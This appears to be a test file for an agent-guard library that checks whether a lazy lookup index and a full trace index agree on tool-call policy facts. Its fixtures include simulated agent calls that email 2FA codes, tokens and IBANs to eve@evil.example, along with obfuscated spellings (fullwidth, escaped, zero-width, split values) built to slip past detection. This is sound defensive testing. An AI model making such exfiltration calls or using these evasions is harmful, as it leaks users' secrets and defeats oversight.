"""A call with no thread state reads only what it asks about, and answers what the index would.

:class:`~guardagent.trace.sources.lookup.LookupSearch` posts a key under exactly the messages the full
index posts it under (echo exclusion and boundaries included), skipping only messages that
lack a string every holder of the key contains. Checked key by key over every key any
message, boundary or call holds, on generated threads (values split across results of one
tool, overlapping kinds, non-ASCII forms: the fragments of the reader's differential test)
and on the example traces; the predicates' facts are compared too (and every hand-written
test trace compares them through ``tests/trace_helpers.facts``).
"""

from __future__ import annotations

import json
import sys
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guardagent.trace import Labels, TraceIndex, analyze, parse_trace
from guardagent.trace.found.reading import boundary_keys, clear_caches, message_reading
from guardagent.trace.sources.lookup import MAX_LOOKUPS, LookupSearch, needle
from guardagent.trace.sources.provenance import Search
from guardagent.trace.text.normal import reading_form
from guardagent.trace.thread.state import call_keys, written_keys
from tests.test_trace_reader_differential import FRAGMENTS, texts, tool_threads
from tests.traces.synthetic import proposed, thread

TRACES = Path(__file__).parent / "traces"
LABELS = Labels.load(TRACES / "assistant_labels.yaml")
POLICY_EXPRESSIONS = [
    'arg_from_trusted("@recipients")',
    'arg_from_user("@recipients")',
    'arg_from_trusted("*")',
    'arg_from_designated("@recipients", via=["read_file", "read_email"])',
    'arg_from_trusted("url", part="domain")',
    "secret_flow()",
    "consent_given()",
    'arg_from_user("body")',
    'arg_only_untrusted("*")',
    'arg_invented("*")',
    'value_from_sensitive("*")',
    'arg_from_trusted_tool("to")',
]


def _both(
    messages: list[dict[str, Any]], call: dict[str, Any] | None
) -> tuple[Any, TraceIndex, LookupSearch]:
    trace = parse_trace(messages, call, labels=LABELS)
    full = TraceIndex(LABELS.phone_region)
    full.update(trace)
    deferred = TraceIndex(LABELS.phone_region)
    deferred.defer(trace)
    return trace, full, LookupSearch(trace, deferred, LABELS)


def same_answers(messages: list[dict[str, Any]], call: dict[str, Any] | None) -> None:
    """Every key any message, boundary or call holds is posted under the same messages."""
    trace, full, lookup = _both(messages, call)
    region, year = full.region, full.year
    keys: set[str] = set()
    for message in trace.messages:
        keys |= set(message_reading(message.text, region, year).hashed)
        for c in message.calls:
            keys |= call_keys(c, region, year) | written_keys(c, region, year)
    for _, _, tail, head in lookup.pairs:
        keys |= set(boundary_keys(tail, head, region, year).hashed)
    keys |= call_keys(trace.call, region, year)
    assert not full.unindexed
    for key in keys:
        if len(lookup._looked) >= MAX_LOOKUPS - 1:  # every key looked up, none from the index
            lookup._posted.clear()
            lookup._looked.clear()
        assert sorted(lookup.posted(key)) == full.ids(key), key
        for i in range(0, len(trace.messages) + 1, 3):
            assert lookup._written_before(key, i) == full.written_before(key, i), (key, i)
    assert lookup.index.deferred is not None, "answering read nothing into the index"
    lazy = analyze(trace, LABELS, lazy=True)
    eager = analyze(trace, LABELS)
    for expression in POLICY_EXPRESSIONS:
        assert lazy.fact(expression).to_json() == eager.fact(expression).to_json(), expression


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_generated_threads_answer_as_the_index(data: Any) -> None:
    messages = data.draw(tool_threads())
    call = {
        "name": "send_email",
        "args": {"to": data.draw(st.sampled_from(FRAGMENTS)), "body": data.draw(texts())},
    }
    same_answers(messages, call)


@pytest.mark.parametrize("seed", [1, 100, 7])
def test_synthetic_threads_answer_as_the_index(seed: int) -> None:
    messages = thread(100, seed=seed)
    same_answers(messages, proposed(messages))


@pytest.mark.parametrize("path", sorted(TRACES.glob("*.json")), ids=lambda p: p.stem)
def test_example_traces_answer_as_the_index(path: Path) -> None:
    case = json.loads(path.read_text())
    same_answers(case["messages"], case.get("proposed_call"))


def _result(i: str, text: str) -> list[dict[str, Any]]:
    return [
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {"id": i, "type": "function", "function": {"name": "read_inbox", "arguments": "{}"}}
            ],
        },
        {"role": "tool", "tool_call_id": i, "content": text},
    ]


@pytest.mark.parametrize(
    "head,rest",
    [
        ("Pay DE89 3704 0044", "0532 0130 00 now"),
        ("Pay DE89-3704-0044-", "0532-0130-00 now"),
        ("Call +41 44 668", "18 00 today"),
        ("Write to bob.smith@exa", "mple.org today"),
    ],
)
def test_a_value_split_across_two_results_is_found_in_both(head: str, rest: str) -> None:
    messages = [
        {"role": "user", "content": "Read my inbox."},
        *_result("c1", head),
        *_result("c2", rest),
    ]
    value = (head.split(maxsplit=1)[1] + ("" if head.endswith(("-", "a")) else " ") + rest).rsplit(
        " ", 1
    )[0]
    call = {"name": "send_email", "args": {"to": "x@y.org", "body": value}}
    same_answers(messages, call)
    _, full, lookup = _both(messages, call)
    typed = [k for _, _, t, h in lookup.pairs for k in boundary_keys(t, h, None, 2024).hashed]
    if typed:  # the boundary reading found the value: posted to both results
        assert lookup.posted(typed[0]) == frozenset({2, 4}) == frozenset(full.ids(typed[0]))


def test_the_kelvin_sign_is_the_only_character_lower_making_ascii() -> None:
    """Why an ASCII local part must be written as such (the e-mail needle; see lookup)."""
    odd = [
        chr(c)
        for c in range(sys.maxunicode + 1)
        if not chr(c).isascii() and chr(c).lower().isascii()
    ]
    assert odd == ["\u212a"]
    assert unicodedata.normalize("NFKC", "\u212a") == "K"
    assert "\u212a" not in reading_form("bob\u212a@x.org \u212aelvin")


def test_needles_are_in_every_form_of_their_values() -> None:
    """A few re-spellings the readers accept: each still holds its key's necessary string."""
    from guardagent.trace.sources.lookup import Segments

    cases = {
        "ＢＯＢ@x.org": "email:bob@x.org",
        "BOB@Example.ORG": "email:bob@example.org",
        "bob@ｅｘａｍｐｌｅ.org": "email:bob@example.org",
        "de89-3704-0044-0532-0130-00": "iban:DE89370400440532013000",
        "ＤＥ８９ ３７０４ ００４４ ０５３２ ０１３０ ００": "iban:DE89370400440532013000",
    }
    for text, key in cases.items():
        form = reading_form(text)
        assert key in message_reading(text, None, 2024).hashed, (text, key)
        assert Segments([0], [form], [form]).holders(needle(key)) == {0}, (text, key)


def test_a_stateless_check_reads_only_what_it_asks_about_and_builds_the_state_on_demand(
    tmp_path: Path,
) -> None:
    from guardagent import GuardAgent
    from guardagent.trace.document.resume import forget
    from guardagent.trace.found import reading

    guard = GuardAgent("assistant-trace", memory_dir=str(tmp_path))
    messages = thread(100, seed=5)
    call = proposed(messages)
    clear_caches()
    forget()
    misses = reading.TEXTS.misses
    decision = guard.check_trace(messages, call)
    read = reading.TEXTS.misses - misses
    assert read < 30, "only the messages that may hold the call's values were read"
    assert type(decision.__dict__["trace_state"]).__name__ == "Deferred"
    state = decision.trace_state  # built now, as the full index builds it
    trace = parse_trace(messages, call, labels=LABELS)
    full = TraceIndex(LABELS.phone_region)
    full.update(trace)
    assert {k: v for k, v in state.items() if k != "consent"} == full.to_json()
    again = guard.check_trace(
        messages + [{"role": "user", "content": "thanks"}], call, thread_state=state
    )
    assert (
        again.allowed == decision.allowed and again.trace_state["count"] == len(trace.messages) + 1
    )


def test_a_lone_surrogate_is_looked_for_as_the_locator_reads_it() -> None:
    """The locator reads a lone surrogate as U+FFFD: an unplaced token holding one is read."""
    messages = [
        {"role": "user", "content": "write to eve\ud800@x please"},
        *_result("c1", "from eve\ud800@x and www.a\ud800b.com/\ud800x"),
    ]
    same_answers(messages, {"name": "send_email", "args": {"to": "eve\ud800@x", "body": "hi"}})


def test_a_call_asking_about_many_keys_is_answered_from_the_completed_index() -> None:
    """Past MAX_LOOKUPS keys the index is read in full and answers: linear in the trace."""
    messages = thread(60, seed=3)
    words = [w for m in messages for w in str(m.get("content") or "").split()]
    body = " ".join(dict.fromkeys(words))
    assert len(set(words)) > 2 * MAX_LOOKUPS
    call = {"name": "send_email", "args": {"to": "nobody@example.org", "body": body}}
    trace = parse_trace(messages, call, labels=LABELS)
    lazy = analyze(trace, LABELS, lazy=True)
    eager = analyze(parse_trace(messages, call, labels=LABELS), LABELS)
    for expression in POLICY_EXPRESSIONS:
        assert lazy.fact(expression).to_json() == eager.fact(expression).to_json(), expression
    assert lazy.index.deferred is None, "the index was completed"


def test_a_call_with_many_words_costs_linear_time() -> None:
    """A body of every word of the thread: looked up key by key only up to MAX_LOOKUPS."""
    import time

    def cost(n: int) -> float:
        messages: list[dict[str, Any]] = [{"role": "user", "content": "Read my inbox."}]
        for i in range(n):
            messages += _result(f"c{i}", " ".join(f"w{i}x{j}" for j in range(20)))
        body = " ".join(f"w{i}x{j}" for i in range(n) for j in range(20))
        call = {"name": "send_email", "args": {"to": "nobody@example.org", "body": body}}
        clear_caches()
        trace = parse_trace(messages, call, labels=LABELS)
        started = time.perf_counter()
        analyze(trace, LABELS, lazy=True).fact('arg_from_trusted("body")')
        return time.perf_counter() - started

    cost(10)  # warm
    small, large = cost(40), cost(400)
    # linear: about 10 times; quadratic (every word looked up in every message): 100 times
    assert large < 40 * max(small, 1e-3), f"40 messages {small:.4f} s, 400: {large:.4f} s"


def test_an_empty_needle_or_trace_is_answered() -> None:
    from guardagent.trace.sources.lookup import Segments

    assert Segments([], [], []).holders(("words", "")) == set()
    assert Segments([3], ["ab"], ["ab"]).holders(("forms", "")) == {3}
    assert Segments([], [], []).holders(("low", "bob")) == set()


def test_a_restored_state_of_no_message_keeps_its_year() -> None:
    """A fresh index restored from a state of no message defers with the state's year."""
    empty = TraceIndex(LABELS.phone_region)
    empty.update(parse_trace([], {"name": "send_email", "args": {"to": "a@b.org"}}, labels=LABELS))
    state = {**empty.to_json(), "year": 2031}
    messages = [{"role": "user", "content": "Pay on 3 March."}]
    call = {"name": "send_email", "args": {"to": "a@b.org", "body": "3 March"}}
    restored = TraceIndex.from_json(state, region=LABELS.phone_region)
    lazy = analyze(parse_trace(messages, call, labels=LABELS), LABELS, index=restored, lazy=True)
    assert lazy.index.deferred is not None and lazy.index.year == 2031
    again = TraceIndex.from_json(state, region=LABELS.phone_region)
    eager = analyze(parse_trace(messages, call, labels=LABELS), LABELS, index=again)
    fact = 'arg_from_user("body")'
    assert lazy.fact(fact).to_json() == eager.fact(fact).to_json()
    assert lazy.index.to_json() == eager.index.to_json()


def test_acheck_trace_builds_the_state_in_its_worker_thread(tmp_path: Path) -> None:
    """An async host reads trace_state on its event loop: nothing is left to build there."""
    import asyncio

    from guardagent import GuardAgent

    guard = GuardAgent("assistant-trace", memory_dir=str(tmp_path))
    messages = thread(30, seed=8)
    decision = asyncio.run(guard.acheck_trace(messages, proposed(messages)))
    built = decision.__dict__["trace_state"]
    assert type(built).__name__ != "Deferred" or built._build is None
    assert decision.trace_state is not None and decision.trace_state["count"] > 0


def test_a_decision_with_a_deferred_state_pickles_and_copies_as_plain_data(tmp_path: Path) -> None:
    import copy
    import pickle

    from guardagent import GuardAgent

    guard = GuardAgent("assistant-trace", memory_dir=str(tmp_path))
    messages = thread(20, seed=4)
    decision = guard.check_trace(messages, proposed(messages))
    for other in (
        pickle.loads(pickle.dumps(decision)),
        copy.deepcopy(decision),
        decision.model_copy(deep=True),
    ):
        assert other.trace_state == decision.trace_state and other.allowed == decision.allowed


def test_a_decision_with_a_deferred_state_iterates_and_compares_as_plain_data(
    tmp_path: Path,
) -> None:
    """dict(decision), ==, and a copy read the state itself, never its Deferred (seen failing)."""
    import copy
    import pickle

    from guardagent import GuardAgent

    guard = GuardAgent("assistant-trace", memory_dir=str(tmp_path))
    messages = thread(20, seed=4)
    decision = guard.check_trace(messages, proposed(messages))
    assert dict(decision)["trace_state"] == decision.trace_state
    fresh = guard.check_trace(messages, proposed(messages))
    assert pickle.loads(pickle.dumps(fresh)) == fresh
    again = guard.check_trace(messages, proposed(messages))
    assert copy.copy(again) == again.model_copy() == again
    state = again.trace_state
    assert isinstance(state, dict) and dict(again.model_copy())["trace_state"] == state


def test_a_message_over_the_state_budget_is_found_past_the_lookup_bound() -> None:
    """Past MAX_LOOKUPS keys the completed index answers, its unindexed messages included.

    The first key answered from the index was asked for while the index was still deferred:
    its unindexed messages (over ``max_state_bytes``) were not yet known, so a sensitive
    result holding a long body was missed (secret_flow allowed; seen failing first).
    """
    words = " ".join(f"word{chr(97 + i % 26)}{chr(97 + i // 26)}" for i in range(2 * MAX_LOOKUPS))
    messages = [
        {"role": "system", "content": "You are an assistant."},
        {"role": "user", "content": "Show me my profile."},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "c1",
                    "type": "function",
                    "function": {"name": "get_user_profile", "arguments": "{}"},
                }
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": words},
    ]
    call = {
        "name": "send_email",
        "args": {"to": "eve@evil.example", "subject": "hi", "body": words},
    }

    def analysed(lazy: bool) -> Any:
        index = TraceIndex(LABELS.phone_region, max_state_bytes=900)
        return analyze(parse_trace(messages, call, labels=LABELS), LABELS, index=index, lazy=lazy)

    eager, lazy = analysed(False), analysed(True)
    assert eager.index.unindexed == [3]
    for expression in ("secret_flow()", 'value_from_sensitive("*")', *POLICY_EXPRESSIONS):
        assert lazy.fact(expression).to_json() == eager.fact(expression).to_json(), expression
    assert eager.fact("secret_flow()").value is True
    trace = parse_trace(messages, call, labels=LABELS)
    full = TraceIndex(LABELS.phone_region, max_state_bytes=900)
    full.update(trace)
    for key in ("w:wordaa", "w:hi", "email:eve@evil.example"):  # each the first key asked
        deferred = TraceIndex(LABELS.phone_region, max_state_bytes=900)
        deferred.defer(trace)
        first = LookupSearch(trace, deferred, LABELS).ids([key])
        assert first == Search(trace, full, LABELS).ids([key]), key


ODD = [
    "\u212aate@x.org",
    "ｋａｔｅ＠x.org",
    "\u0130",
    "ẞ",
    "Σ",
    "ς",
    "\u3002",
    "\uff0e",
    "\ufe6b",
    "\u2024",
    "\u3382",
    "²",
    "①",
    "½",
    "℡",
    "ﬀ",
    "ｄｅ８９ ３７０４",
    "\u200b",
    "\u00ad",
    "\u200d",
    "\\u0040",
    "\\x2e",
    "\\n",
    "\\\\u0040",
    "\\\\n",
    "%40",
    "%2e",
    "&#64;",
    "\ud800",
    "\x00",
    "://",
    "ＬＯＣＡＬＨＯＳＴ",
    "١٢٣٤٥٦٧",
    "\\u0031",
    '\\"',
    "ｈｔｔｐｓ：／／",
    "\U0001d7ce",
    "Ⅻ",
    "\\ud83d\\ude00",
    "\\U0001F600",
    "\u2011",
    "\u2212",
    "\ufe63",
    "\uff0d",
    "\u0430",
    "a\u0301",
    "eve\\u0040evil.example",
    "de89\\u00203704",
    "DE89\u200b3704",
    "bob@exa\nmple.org",
]
"""Re-spellings the readers fold (NFKC, case, escapes, format characters) or refuse."""


@st.composite
def odd_texts(draw: Any) -> str:
    """Texts of the reader's fragments and of the odd spellings above, glued."""
    parts = draw(
        st.lists(
            st.tuples(
                st.sampled_from(FRAGMENTS + ODD),
                st.sampled_from(["", " ", ".", "-", "\n", "@", "/", "\\n"]),
            ),
            min_size=1,
            max_size=10,
        )
    )
    return "".join(f + s for f, s in parts)


def _calls(i: str, name: str, args: dict[str, Any]) -> dict[str, Any]:
    return {
        "role": "assistant",
        "content": None,
        "tool_calls": [
            {"id": i, "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}
        ],
    }


@st.composite
def odd_threads(draw: Any) -> list[dict[str, Any]]:
    """Users, sensitive and untrusted tools (structured results with untrusted fields,
    content lists, JSON-escaped text), values split across results of one tool."""
    out: list[dict[str, Any]] = [{"role": "system", "content": "You are an assistant."}]
    for turn in range(draw(st.integers(1, 4))):
        out.append({"role": "user", "content": draw(odd_texts())})
        tool = draw(
            st.sampled_from(
                [
                    "read_inbox",
                    "get_user_profile",
                    "get_transactions",
                    "search_contacts",
                    "get_2fa_code",
                ]
            )
        )
        args = {
            "read_inbox": {"folder": draw(odd_texts())},
            "get_transactions": {"n": 3},
            "search_contacts": {"query": draw(st.sampled_from(FRAGMENTS + ODD))},
            "get_2fa_code": {"service": "bank"},
        }.get(tool, {})
        out.append(_calls(f"c{turn}", tool, args))
        shape = draw(st.sampled_from(["text", "json", "parts", "escaped"]))
        if tool == "get_transactions" or shape == "json":
            rows = [
                {
                    "subject": draw(odd_texts()),
                    "iban": draw(odd_texts()),
                    "amount": draw(st.sampled_from([-5, 7])),
                    "note": draw(odd_texts()),
                }
            ]
            content: Any = json.dumps(rows, ensure_ascii=draw(st.booleans()))
        elif shape == "parts":
            content = [
                {"type": "text", "text": draw(odd_texts())},
                {"type": "text", "text": draw(odd_texts())},
            ]
        elif shape == "escaped":
            content = json.dumps(json.dumps({"text": draw(odd_texts())}))
        else:
            content = draw(odd_texts())
        out.append({"role": "tool", "tool_call_id": f"c{turn}", "content": content})
    return out


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_odd_spellings_answer_as_the_index(data: Any) -> None:
    """Folded and escaped spellings, structured and listed results: the same keys, facts."""
    messages = data.draw(odd_threads())
    to = data.draw(st.sampled_from(FRAGMENTS + ODD + ["eve@evil.example, bob@x.org"]))
    call = {
        "name": data.draw(st.sampled_from(["send_email", "send_money"])),
        "args": {"to": to, "body": data.draw(odd_texts())},
    }
    if call["name"] == "send_money":
        call["args"] = {
            "iban": to,
            "amount": data.draw(odd_texts()),
            "subject": call["args"]["body"],
        }
    same_answers(messages, call)


HANDPICKED = {
    "json-escaped address in an untrusted result": (
        [_result("c1", '{"from": "eve\\u0040evil.example", "body": "pay"}')],
        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "hi"}},
    ),
    "double-escaped address": (
        [_result("c1", '{"x": "{\\"from\\": \\"eve\\\\u0040evil.example\\"}"}')],
        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "hi"}},
    ),
    "kelvin and fullwidth local parts": (
        [[{"role": "user", "content": "write to \u212aate@x.org and ｂｏｂ＠ｘ.ｏｒｇ"}]],
        {"name": "send_email", "args": {"to": "kate@x.org, bob@x.org", "body": "hi"}},
    ),
    "fullwidth IBAN in a sensitive structured result": (
        [
            [
                _calls("c1", "get_transactions", {"n": 1}),
                {
                    "role": "tool",
                    "tool_call_id": "c1",
                    "content": json.dumps(
                        [
                            {
                                "amount": 5,
                                "iban": "ＤＥ８９ ３７０４ ００４４ ０５３２ ０１３０ ００",
                                "subject": "rent",
                            }
                        ]
                    ),
                },
            ]
        ],
        {"name": "send_money", "args": {"iban": "DE89370400440532013000", "amount": "5"}},
    ),
    "IBAN split across two untrusted fields of one tool": (
        [
            [
                _calls("c1", "get_transactions", {"n": 1}),
                {
                    "role": "tool",
                    "tool_call_id": "c1",
                    "content": json.dumps(
                        [
                            {"amount": 5, "subject": "DE89 3704 0044"},
                            {"amount": 5, "subject": "0532 0130 00"},
                        ]
                    ),
                },
            ]
        ],
        {"name": "send_money", "args": {"iban": "DE89 3704 0044 0532 0130 00", "amount": "5"}},
    ),
    "a 2FA code in fullwidth, sent": (
        [
            [
                _calls("c1", "get_2fa_code", {"service": "bank"}),
                {"role": "tool", "tool_call_id": "c1", "content": "Your code: ＡＢ１２３４５６"},
            ]
        ],
        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "code ab123456"}},
    ),
    "content list and an escaped line break": (
        [
            [
                _calls("c1", "get_user_profile", {}),
                {
                    "role": "tool",
                    "tool_call_id": "c1",
                    "content": [
                        {"type": "text", "text": "iban: CH93 0076 2011\\n"},
                        {"type": "text", "text": "6238 5295 7 phone +41 44 668 18 00"},
                    ],
                },
            ]
        ],
        {"name": "send_email", "args": {"to": "x@y.org", "body": "CH93 0076 2011 6238 5295 7"}},
    ),
    "anthropic tool_result parts": (
        [
            [
                {
                    "role": "assistant",
                    "content": [
                        {"type": "tool_use", "id": "t1", "name": "get_user_profile", "input": {}}
                    ],
                },
                {
                    "role": "user",
                    "content": [
                        {
                            "type": "tool_result",
                            "tool_use_id": "t1",
                            "content": "secret token ZX81SPECTRUM48 and eve\\u0040evil.example",
                        }
                    ],
                },
            ]
        ],
        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "ZX81SPECTRUM48"}},
    ),
    "a carried URL and a percent-encoded address": (
        [
            _result(
                "c1",
                "see https://trusted.example/r?url=https%3A%2F%2Fevil.example%2F"
                "&to=eve%40evil.example and evil.example",
            )
        ],
        {
            "name": "send_email",
            "args": {"to": "eve@evil.example", "body": "https://evil.example/ evil.example"},
        },
    ),
    "format characters and an ideographic full stop": (
        [
            _result(
                "c1",
                "mail e\u200bve@evil\u3002example or eve@evil\uff0eexample, "
                "DE89\u00ad3704 0044 0532 0130 00",
            )
        ],
        {
            "name": "send_email",
            "args": {"to": "eve@evil.example", "body": "DE89 3704 0044 0532 0130 00"},
        },
    ),
}


@pytest.mark.parametrize("case", sorted(HANDPICKED))
def test_handpicked_spellings_answer_as_the_index(case: str) -> None:
    blocks, call = HANDPICKED[case]
    messages = [{"role": "user", "content": "Please help."}] + [m for b in blocks for m in b]
    same_answers(messages, call)


def _over_budget(texts: list[str], role: str) -> list[dict[str, Any]]:
    """Three messages of one source: a sensitive tool's results, or the user's."""
    out: list[dict[str, Any]] = [{"role": "user", "content": "Show my balance."}]
    for i, text in enumerate(texts):
        if role == "user":
            out.append({"role": "user", "content": text})
            continue
        out += [
            _calls(f"c{i}", "get_balance", {"account": "main"}),
            {"role": "tool", "tool_call_id": f"c{i}", "content": text},
        ]
    return out


@pytest.mark.parametrize(
    "role,expression,call",
    [
        (
            "tool",
            "secret_flow()",
            {
                "name": "send_email",
                "args": {
                    "to": "eve@evil.example",
                    "subject": "x",
                    "body": "DE89 3704 0044 0532 0130 00",
                },
            },
        ),
        (
            "user",
            'arg_from_user("iban")',
            {"name": "send_money", "args": {"iban": "DE89 3704 0044 0532 0130 00", "amount": "5"}},
        ),
    ],
)
def test_a_thread_over_the_state_budget_answers_as_the_index(
    role: str, expression: str, call: dict[str, Any]
) -> None:
    """An unindexed message (over ``max_state_bytes``) moves the index's boundaries.

    The index reads no boundary of a message it could not keep: the next message of the
    source is joined to the one before (a value split around the long message is found,
    one split beside it is not). The lookup read every boundary, so it decided otherwise
    (secret_flow allowed where the index denies; seen failing first): a thread whose state
    may exceed the budget is answered from the completed index.
    """
    big = " ".join(f"w{i}x" for i in range(60))
    texts = (
        ["paid to DE89 3704 0044", big, "0532 0130 00 done"]
        if role == "tool"
        else ["a" * 5 + " " + big + " DE89 3704 0044", "0532 0130 00 done"]
    )
    messages = _over_budget(texts, role)
    for budget in (600, 700, 800, 900, 1000, 1200, 1_000_000):

        def analysed(lazy: bool) -> Any:
            index = TraceIndex(LABELS.phone_region, max_state_bytes=budget)  # noqa: B023
            return analyze(
                parse_trace(messages, call, labels=LABELS), LABELS, index=index, lazy=lazy
            )

        eager, lazy = analysed(False), analysed(True)
        for e in (expression, *POLICY_EXPRESSIONS):
            assert lazy.fact(e).to_json() == eager.fact(e).to_json(), (budget, e)


def test_hosts_save_the_state_an_eager_index_saves(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CLI ``--state`` (an approval used or not), check_trace and acheck_trace, stateless.

    Each writes, byte for byte, the signed state the call would have written had its index
    been read in full at once (``defer`` made an eager ``update``).
    """
    import asyncio

    from click.testing import CliRunner

    from guardagent import GuardAgent
    from guardagent.cli import main
    from guardagent.trace import Consent
    from tests.test_cli_consent import ATTACK, KEY, PAYMENT
    from tests.test_trace_wiring import trace_profile

    profile = str(trace_profile(tmp_path))
    signed = tmp_path / "consent.json"
    signed.write_text(
        json.dumps([Consent("send_money", args=ATTACK, thread="t1").signed(KEY.encode())]),
        encoding="utf-8",
    )
    runs = [
        [str(PAYMENT), "--consent", str(signed)],
        [str(PAYMENT)],
        *[[str(p)] for p in sorted(TRACES.glob("*.json"))[:6]],
    ]
    messages = thread(30, seed=9)

    def states(tag: str) -> list[Any]:
        out = []
        for n, args in enumerate(runs):
            path = tmp_path / f"{tag}{n}.json"
            result = CliRunner().invoke(
                main,
                [
                    "check",
                    "--profile",
                    profile,
                    "--trace",
                    *args,
                    "--state",
                    str(path),
                    "--thread-id",
                    "t1",
                    "--fields",
                    "allowed",
                ],
                env={"GUARDAGENT_TRACE_KEY": KEY},
            )
            assert result.exit_code in (0, 1), result.output
            out.append((result.output, path.read_text(encoding="utf-8")))
        guard = GuardAgent(profile=profile)
        out.append(guard.check_trace(messages, proposed(messages), thread_id="t2").trace_state)
        later = asyncio.run(guard.acheck_trace(messages, proposed(messages), thread_id="t2"))
        out.append(later.trace_state)
        return out

    lazy = states("lazy")
    assert json.loads(lazy[0][0])["allowed"] is True  # the approval was used
    monkeypatch.setattr(TraceIndex, "defer", TraceIndex.update)
    assert states("eager") == lazy


def _bounds_hold(messages: list[dict[str, Any]], call: dict[str, Any] | None) -> None:
    """Every tier of the state's size bound is at least the size the index reaches."""
    from guardagent.trace.thread.sizebound import state_bound, written_bound

    trace, full, lookup = _both(messages, call)
    segments = lookup.messages()
    pairs = list(zip(segments.texts["words"], segments.texts["forms"], strict=True))
    for tight, exact in ((False, False), (True, False), (True, True)):
        bound = state_bound(
            trace, 400, pairs, tight=tight, exact=exact, region=full.region, year=full.year
        )
        assert bound >= full._size, (tight, exact, bound, full._size)
    for message in trace.messages:
        for c in [*message.calls, trace.call]:
            assert written_bound(c) >= len(written_keys(c, full.region, full.year)), c.args


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_the_state_size_bound_holds(data: Any) -> None:
    """The bound that lets the lookup answer is above the index's size (odd threads, args)."""
    messages = data.draw(st.one_of(odd_threads(), tool_threads()))
    args = {
        "to": data.draw(st.sampled_from(FRAGMENTS + ODD)),
        "body": data.draw(odd_texts()),
        "cc": [data.draw(odd_texts()), 3, 2.5e300, None, True, 10**400 + 1],
        "bcc": 'Eve <eve@evil.example>, "b"@x.org, (c) d@e.org, ｆ@ｇ.org',
    }
    _bounds_hold(messages, {"name": "send_email", "args": args})


@pytest.mark.parametrize("seed", [2, 11])
def test_the_state_size_bound_holds_on_synthetic_threads(seed: int) -> None:
    messages = thread(120, seed=seed)
    _bounds_hold(messages, proposed(messages))
